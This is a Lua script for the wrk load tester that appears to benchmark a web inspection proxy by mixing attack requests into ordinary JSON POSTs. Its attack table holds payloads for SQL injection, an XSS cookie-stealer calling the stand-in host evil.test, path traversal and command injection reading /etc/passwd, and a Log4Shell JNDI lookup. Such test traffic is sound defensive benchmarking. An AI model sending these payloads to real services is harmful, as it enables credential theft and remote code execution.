-- post.lua -- wrk script for edgenode's throughput bench: connector-style POSTs of a 1 KB JSON body.
-- With ATTACK_EVERY=n in the environment, every n-th request carries an attack (path, query or body).
local attack_every = tonumber(os.getenv("ATTACK_EVERY") or "0")
local fill = string.rep("lorem ipsum dolor sit amet ", 36)
local benign = '{"user":{"id":4711,"name":"Alice Example","email":"alice@example.com"},' ..
               '"items":[{"sku":"B-100","qty":2},{"sku":"C-220","qty":1}],"note":"' .. fill .. '"}'
benign = benign .. string.rep(" ", 1024 - #benign)
local attacks = {
  {"/api/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", benign},
  {"/api/comments", '{"comment":"<script>fetch(\\"//evil.test/\\"+document.cookie)</script>"}'},
  {"/api/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", benign},
  {"/api/ping", '{"host":"127.0.0.1; cat /etc/passwd"}'},
  {"/api/log", '{"ua":"${jndi:ldap://evil.test/a}"}'},
}
local headers = {
  ["Content-Type"] = "application/json",
  ["X-Forwarded-Host"] = "api.example.com",
  ["X-Real-IP"] = "203.0.113.7",
  ["X-Connector"] = "bench/1.0.0",
  ["X-Connector-Mode"] = "inline",
  ["X-Connector-Request-Id"] = "00000000deadbeef",
}
local n = 0
request = function()
  n = n + 1
  if attack_every > 0 and n % attack_every == 0 then
    local a = attacks[(n / attack_every) % #attacks + 1]
    return wrk.format("POST", a[1], headers, a[2])
  end
  return wrk.format("POST", "/api/orders?page=2&sort=desc", headers, benign)
end

-- wrk prints the 50/75/90/99th percentiles with --latency; the bench also wants the 99.9th (in us).
done = function(summary, latency, requests)
  io.write(string.format("p99.9_us %d\n", latency:percentile(99.9)))
end
